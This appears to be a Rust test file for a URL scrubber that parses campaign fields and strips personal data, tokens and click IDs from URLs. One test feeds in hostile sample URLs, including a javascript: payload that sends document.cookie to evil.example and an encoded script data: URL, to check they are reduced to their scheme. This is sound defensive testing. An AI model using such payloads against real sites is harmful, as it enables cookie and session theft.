//! URL scrubbing and the fields taken from a URL, on hostile and ordinary URLs.

use super::*;

fn s(raw: &str) -> Scrubbed {
    scrub(raw, &Scrubber::new(&["ref".to_owned()]))
}

#[test]
fn paths_and_campaigns_are_split_out() {
    let page = s(
        "https://Shop.Example/p/42?utm_source=news&utm_medium=email&utm_campaign=spring%20sale&utm_term=red+shoes&utm_content=hero&utm_id=7&utm_source_platform=sa360&utm_creative_format=banner&utm_marketing_tactic=prospecting&x=1#top",
    );
    assert_eq!(page.host.as_deref(), Some("shop.example"));
    assert_eq!(page.path, "/p/42");
    assert_eq!(
        page.campaign,
        Campaign {
            source: "news".into(),
            medium: "email".into(),
            campaign: "spring sale".into(),
            term: "red shoes".into(),
            content: "hero".into(),
            id: "7".into(),
            source_platform: "sa360".into(),
            creative_format: "banner".into(),
            marketing_tactic: "prospecting".into(),
        }
    );
    // Nothing personal: the URL is kept as it came, less its anchor.
    assert_eq!(
        page.url,
        "https://shop.example/p/42?utm_source=news&utm_medium=email&utm_campaign=spring%20sale&utm_term=red+shoes&utm_content=hero&utm_id=7&utm_source_platform=sa360&utm_creative_format=banner&utm_marketing_tactic=prospecting&x=1"
    );
}

#[test]
fn utm_edge_cases() {
    for (url, source) in [
        ("https://a.example/?UTM_SOURCE=Caps", "Caps"),
        (
            "https://a.example/?utm_source=first&utm_source=second",
            "first",
        ),
        ("https://a.example/?utm_source=", ""),
        ("https://a.example/?utm_source=%20padded%20", "padded"),
        ("https://a.example/?utm_source=a%40b.example", "[email]"),
        ("https://a.example/#utm_source=fragment", ""),
        ("https://a.example/", ""),
    ] {
        assert_eq!(s(url).campaign.source, source, "{url}");
    }
    assert_eq!(
        s(&format!("https://a.example/?utm_term={}", "x".repeat(500)))
            .campaign
            .term
            .len(),
        200
    );
    assert!(s("https://a.example/?utm_medium=cpc").campaign.is_set());
    assert!(!s("https://a.example/?utm_term=x").campaign.is_set());
}

#[test]
fn click_ids_are_noted_and_removed() {
    let page = s("https://a.example/p?gclid=Cj0KCQ&fbclid=IwAR2&GCLID=again&x=1");
    assert_eq!(page.click_ids, ["gclid", "fbclid"]);
    assert!(page.paid_click);
    assert_eq!(page.url, "https://a.example/p?x=1");
    let organic = s("https://a.example/?fbclid=IwAR2");
    assert!(!organic.paid_click);
    assert_eq!(organic.url, "https://a.example/");
}

#[test]
fn personal_data_is_scrubbed_from_urls() {
    for (raw, want) in [
        // Sensitive and configured keys, secret values, user info.
        (
            "https://shop.example/login?email=ada%40example.com&next=%2Fcart",
            "https://shop.example/login?next=%2Fcart",
        ),
        (
            "https://shop.example/?q=shoes&Token=abc&ref=friend42",
            "https://shop.example/?q=shoes",
        ),
        (
            "https://shop.example/?contact=ada@example.com",
            "https://shop.example/",
        ),
        (
            "https://shop.example/?k=d41d8cd98f00b204e9800998ecf8427e&page=2",
            "https://shop.example/?page=2",
        ),
        ("https://ada:secret@shop.example/", "https://shop.example/"),
        // Path segments and matrix parameters.
        (
            "https://shop.example/unsubscribe/ada@example.com",
            "https://shop.example/unsubscribe/[email]",
        ),
        (
            "https://shop.example/reset/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl/done",
            "https://shop.example/reset/[token]/done",
        ),
        (
            "https://shop.example/cart;jsessionid=0AAB6C8DE415",
            "https://shop.example/cart",
        ),
        // IP addresses, phone numbers, IBANs and e-mail addresses in
        // any form: query pairs holding them go, path segments get markers.
        (
            "https://shop.example/?q=shoes&from=203.0.113.42",
            "https://shop.example/?q=shoes",
        ),
        (
            "https://shop.example/?v=2001:db8::1&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/ip/203.0.113.42/details",
            "https://shop.example/ip/[ip]/details",
        ),
        (
            "https://shop.example/q/%5B2001:db8::1%5D",
            "https://shop.example/q/[[ip]]",
        ),
        (
            "https://shop.example/?q=%2B49%2030%201234567&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/?t=+49+30+1234567&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/call/030-1234567",
            "https://shop.example/call/[phone]",
        ),
        (
            "https://shop.example/?x=DE89370400440532013000&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/pay/DE89%203704%200044%200532%200130%2000",
            "https://shop.example/pay/[iban]",
        ),
        (
            "https://shop.example/?to=ada%2540example.com&page=2",
            "https://shop.example/?page=2",
        ),
        // A `+` a script did not encode, in an address (found by
        // enricher/fuzz: read as a space, `ada @example.com` is none).
        (
            "https://shop.example/?contact=ada+@example.com&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/?ada+@example.com&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/?to=ada@ex%C3%A4mple.de&page=2",
            "https://shop.example/?page=2",
        ),
        (
            "https://shop.example/u/ada%EF%BC%A0example.com",
            "https://shop.example/u/[email]",
        ),
        (
            "https://shop.example/?ip=10.0.0.1&user=ada&username=ada&login=ada&page=2",
            "https://shop.example/?page=2",
        ),
        // What only looks like it stays: versions, prices, ids, dates.
        (
            "https://shop.example/p/123456789?v=1.2.3&price=12.99&day=2026-12-06",
            "https://shop.example/p/123456789?v=1.2.3&price=12.99&day=2026-12-06",
        ),
        // Fragments: only a hash route's path is kept.
        (
            "https://app.example/cb#access_token=abc&token_type=bearer&expires_in=3600",
            "https://app.example/cb",
        ),
        (
            "https://app.example/#/account/ada@example.com?tab=1&session=x",
            "https://app.example/#/account/[email]",
        ),
        (
            "https://app.example/#!/orders/42/",
            "https://app.example/#!/orders/42",
        ),
        (
            "https://app.example/#/cb/access_token=x/more",
            "https://app.example/#/cb",
        ),
        (
            "https://app.example/#/search&q=ada",
            "https://app.example/#/search",
        ),
        (
            "https://app.example/#/from/203.0.113.42",
            "https://app.example/#/from/[ip]",
        ),
        ("https://app.example/p#reviews", "https://app.example/p"),
        (
            "https://app.example/p#ada@example.com",
            "https://app.example/p",
        ),
        ("https://app.example/p#", "https://app.example/p"),
        ("https://app.example/p#?a=1", "https://app.example/p"),
        // A URL of another scheme keeps its scheme; text that is not a URL
        // is scrubbed as text.
        ("mailto:ada@example.com", "mailto:"),
        ("not a url ada@example.com", "not a url [email]"),
    ] {
        assert_eq!(s(raw).url, want, "{raw}");
    }
}

#[test]
fn a_rebuilt_query_never_writes_an_address_of_spaced_words() {
    // One pair is dropped, so the query is rebuilt with spaces as `+`:
    // `056.78 @004.com` would read `056.78+@004.com` (enricher/fuzz).
    let out = s("https://shop.example/?t@ee.com&q=H 056.78 @004.com&page=2");
    let read = percent_encoding::percent_decode_str(&out.url).decode_utf8_lossy();
    assert!(!read.contains("@004"), "{read}");
    assert_eq!(out.url, "https://shop.example/?page=2");
    // Plain words with spaces keep their pair.
    let out = s("https://shop.example/?t@ee.com&q=red shoes");
    assert_eq!(out.url, "https://shop.example/?q=red+shoes");
}

#[test]
fn paths_are_normalised() {
    for (raw, path) in [
        ("https://a.example", "/"),
        ("https://a.example/", "/"),
        ("https://a.example//shop///shoes/", "/shop/shoes"),
        ("https://a.example/a/./b/../c", "/a/c"),
        ("https://a.example/caf%C3%A9/", "/caf%C3%A9"),
        // Dot segments once their `;param` is cut (found by enricher/fuzz).
        ("https://a.example/a/%2E%2E;jsessionid=1/b", "/a/b"),
        ("https://a.example/a/b/..;x", "/a/b"),
        ("https://a.example/a/.;x/b", "/a/b"),
        ("not a url", ""),
        ("", ""),
    ] {
        assert_eq!(s(raw).path, path, "{raw}");
    }
}

#[test]
fn long_and_hostile_urls_are_bounded() {
    let long = format!("https://a.example/{}", "é".repeat(5000));
    assert!(s(&long).url.chars().count() <= MAX_URL_CHARS);
    // Another scheme keeps its host, percent-encoded three characters per
    // control byte: 1,000 of them were 3,000 characters (enricher/fuzz).
    let opaque = format!("https2://a{}b", "\u{10}".repeat(1000));
    assert_eq!(s(&opaque).url.chars().count(), MAX_URL_CHARS);
    // A "scheme" longer than any real one is text, not a scheme cut in two
    // (enricher/fuzz): scrubbed as text, cut, no host.
    let scheme = format!(
        "https{}:x//shop.example/ada.lovelace@example.com",
        "b".repeat(MAX_SCHEME_CHARS)
    );
    let out = s(&scheme);
    assert!(out.url.contains("shop.example"), "{}", out.url);
    assert_eq!((out.host, out.path.as_str()), (None, ""));
    assert!(!out.url.contains("lovelace"), "{}", out.url);
    // A cut never makes an address of what was left alone as a version
    // (`192.168.1.1.10` cut to `192.168.1.1`: enricher/fuzz).
    for (quad, kept) in [("192.168.1.1", ".10"), ("192.168.1.1", "0.7")] {
        let head = "https://shop.example/";
        let pad = "ab/"
            .repeat(MAX_URL_CHARS)
            .split_at(MAX_URL_CHARS - head.len() - 1 - quad.len())
            .0
            .to_owned();
        let out = s(&format!("{head}{pad}'{quad}{kept}/more"));
        assert!(out.url.chars().count() <= MAX_URL_CHARS);
        assert!(
            out.url.ends_with("'[ip]"),
            "{quad}{kept}: {}",
            &out.url[out.url.len() - 20..]
        );
    }
    for raw in [
        "https://",
        "http://[::1",
        "https://a.example/%zz",
        "#",
        "?=",
    ] {
        let _ = s(raw);
    }
}

#[test]
fn other_schemes_keep_only_scheme_and_host() {
    for (raw, kept) in [
        ("javascript:alert(document.cookie)", "javascript:"),
        (
            "JavaScript:fetch('//evil.example/?c='+document.cookie)",
            "javascript:",
        ),
        ("  javascript:void(0)", "javascript:"),
        (
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "data:",
        ),
        ("vbscript:msgbox(1)", "vbscript:"),
        ("file:///home/ada/notes.html", "file:"),
        ("blob:https://shop.example/1f7e0c9a", "blob:"),
        ("mailto:ada@example.com?subject=hi", "mailto:"),
        (
            "android-app://com.google.android.gm/",
            "android-app://com.google.android.gm",
        ),
        (
            "ftp://ada:secret@Files.Example/pub/cv.pdf",
            "ftp://files.example",
        ),
    ] {
        let scrubbed = s(raw);
        assert_eq!(scrubbed.url, kept, "{raw}");
        assert_eq!((scrubbed.host, scrubbed.path.as_str()), (None, ""), "{raw}");
    }
}

proptest::proptest! {
    #[test]
    fn any_string_is_scrubbed_without_panicking(raw in ".{0,300}") {
        let out = s(&raw);
        proptest::prop_assert!(out.url.chars().count() <= MAX_URL_CHARS);
    }

    #[test]
    fn a_kept_fragment_is_a_route_without_parameters(fragment in "[ -~]{0,60}") {
        let out = s(&format!("https://app.example/p#{fragment}")).url;
        if let Some((_, kept)) = out.split_once('#') {
            proptest::prop_assert!(
                kept.trim_start_matches('!').starts_with('/') && !kept.contains(['?', '&', '=']),
                "#{fragment} -> {out}"
            );
        }
    }

    #[test]
    fn an_email_anywhere_in_a_url_is_removed(
        segments in proptest::collection::vec("[a-zA-Z0-9._~-]{0,12}", 0..4),
        key in "[a-z]{1,8}",
        value in "[a-zA-Z0-9 ]{0,12}",
        place in 0_usize..4,
    ) {
        let email = "ada.lovelace@example.com";
        let mut path = segments.join("/");
        let mut query = format!("{key}={value}");
        let mut fragment = String::from("top");
        match place {
            0 => path.push_str(&format!("/{email}")),
            1 => query.push_str(&format!("&{key}x={email}")),
            2 => fragment = format!("/route/{email}"),
            _ => query.push_str(&format!("&note={value}%20{}", email.replace('@', "%40"))),
        }
        let raw = format!("https://shop.example/{path}?{query}#{fragment}");
        let out = s(&raw).url;
        let decoded = percent_encoding::percent_decode_str(&out).decode_utf8_lossy().into_owned();
        proptest::prop_assert!(!decoded.contains("lovelace@example"), "{raw} -> {out}");
    }
}
